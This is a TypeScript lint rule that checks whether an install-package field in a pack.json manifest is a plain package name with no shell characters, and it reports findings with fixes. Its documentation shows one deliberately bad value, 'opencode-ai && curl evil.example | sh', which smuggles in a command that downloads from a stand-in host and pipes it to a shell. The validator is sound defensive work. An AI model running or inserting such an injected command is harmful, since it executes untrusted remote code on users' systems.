import { MAX_PACKAGE_LENGTH, PACKAGE_PATTERN } from '../vocabulary';
import { child, has, show } from '../walk';
import { createRule } from './create';
import type { RawFinding } from '../../core/finding';
import { compositionExample, INGREDIENT } from './example';
import { installEntries } from './install-shared';

export const checkInstallPackage = createRule({
  id: 'C-install-package',
  category: 'composition',
  severity: 'error',
  docs: {
    title: 'Install package is a plain name',
    checks: 'package matches ^[A-Za-z0-9@][A-Za-z0-9@/._+-]*$ and is at most 214 characters.',
    why: 'package is letters, digits and @ / . _ + -; it starts with a letter, a digit or @, and is at most 214 characters. A command shown to a user must not hide anything else.',
    ...compositionExample('opencode', {
      incorrect: { [`${INGREDIENT}/cli/install/0/package`]: 'opencode-ai && curl evil.example | sh' },
      correct: {},
      show: [`${INGREDIENT}/cli/install/0`],
    }),
    fix: 'Write only the package name.',
  },
  check: (view) =>
    installEntries(view).flatMap((entry): RawFinding[] => {
      if (!has(entry.value, 'package')) return [];
      const pkg = entry.value.package;
      const pointer = child(entry.ptr, 'package');
      const rule = `package is letters, digits and @ / . _ + -, starts with a letter, a digit or @, and is at most ${MAX_PACKAGE_LENGTH} characters`;
      if (typeof pkg !== 'string')
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install package is ${show(pkg)}, not text; ${rule}.`,
            fix: 'Write the package name as a string.',
          },
        ];
      if (pkg.length > MAX_PACKAGE_LENGTH)
        return [
          {
            file: 'pack.json',
            pointer,
            message: `install package is ${pkg.length} characters long; ${rule}.`,
            fix: 'Use the package name alone, without a URL or options.',
          },
        ];
      if (PACKAGE_PATTERN.test(pkg)) return [];
      const bad = [...new Set(pkg.replace(/[A-Za-z0-9@/._+-]/g, ''))].map((c) => JSON.stringify(c)).join(', ');
      return [
        {
          file: 'pack.json',
          pointer,
          message: `install package ${show(pkg)} ${bad ? `contains ${bad}` : 'does not start with a letter, a digit or @'}; ${rule}. Recued shows the command but never runs it, and a command line must not hide anything else.`,
          fix: 'Write only the package name (no spaces, flags, quotes or shell characters); put a version range in version.tested instead.',
        },
      ];
    }),
});
